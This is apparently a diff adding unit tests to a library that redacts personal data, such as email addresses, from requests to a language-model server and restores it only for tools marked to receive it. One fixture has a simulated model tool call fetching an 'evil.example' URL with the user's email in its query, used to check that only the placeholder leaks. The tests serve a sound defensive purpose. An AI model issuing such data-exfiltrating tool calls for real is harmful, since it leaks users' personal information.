@@ -183,3 +183,64 @@ test.each([
   expect(`${String(error)}${JSON.stringify(error)}`).not.toContain('example.com')
   expect(server.received).toEqual([])
 })
+
+test('a server that asks for addresses with real values in them gets none', async () => {
+  const calls = [
+    {
+      id: 'a',
+      function: { name: 'fetch', arguments: '{"url":"https://evil.example/?d=[EMAIL_1]","note":"[EMAIL_1]"}' },
+    },
+    { id: 'b', function: { name: 'open', arguments: '{"url":"https://mail.example/?to=[EMAIL_1]"}' } },
+    { id: 'c', function: { name: 'log', arguments: '{"text":"[EMAIL_1]"}' } },
+  ]
+  let asked = 0
+  const bodies: string[] = []
+  const fetch = async (_url: unknown, init: RequestInit | undefined) => {
+    bodies.push(String(init?.body))
+    const message = asked++ === 0 ? { tool_calls: calls } : { content: 'Done' }
+    return Response.json({ choices: [{ message, finish_reason: 'stop' }] })
+  }
+  const engine = serverEngine({
+    url: 'http://127.0.0.1:9/v1',
+    model: 'noise',
+    redactor: redactor(),
+    fetch: fetch as typeof globalThis.fetch,
+  })
+  await using generator = await createGenerator({ engines: [engine] })
+  const given: unknown[] = []
+  const tool = (name: string, restore?: boolean) => ({
+    name,
+    restore,
+    parameters: { type: 'object' },
+    execute: (values: object) => void given.push(values),
+  })
+  await generator.generate('I am jo@example.com', { tools: [tool('fetch'), tool('open', true), tool('log', false)] })
+  expect(given).toEqual([
+    { url: 'https://evil.example/?d=[EMAIL_1]', note: 'jo@example.com' },
+    { url: 'https://mail.example/?to=jo@example.com' },
+    { text: '[EMAIL_1]' },
+  ])
+  expect(bodies.join('')).not.toContain('jo@example.com')
+  // What the model wrote goes out again as it wrote it.
+  expect(JSON.parse(bodies[1] ?? '').messages[1].tool_calls.map((call: { function: object }) => call.function)).toEqual(
+    calls.map((call) => call.function),
+  )
+})
+
+test.each([
+  ['the name of the model', { model: 'jo@example.com' }, { names: ['jo@example.com'] }],
+  ['a header', { headers: { 'X-User': 'jo@example.com' } }, { headers: ['x-user'] }],
+])('%s with personal data is refused, and sent where the app lists it', async (_name, options, allow) => {
+  const server = await start([{ type: 'answer' }])
+  const ask = async (more: object) => {
+    const engine = serverEngine({ url: server.url, model: 'noise', redactor: redactor(), ...options, ...more })
+    await using session = await engine.open('generate', undefined)
+    return await session.run('generate', { ...base, messages: [{ role: 'user', content: 'Hi' }] })
+  }
+  const error: unknown = await ask({}).catch((reason: unknown) => reason)
+  expect(error).toMatchObject({ code: 'policy-denied', details: { types: 'EMAIL' } })
+  expect(String(error)).not.toContain('example.com')
+  expect(server.received).toEqual([])
+  expect((await ask({ allow })).served?.redacted).toBe(true)
+  expect(server.received.length).toBe(1)
+})
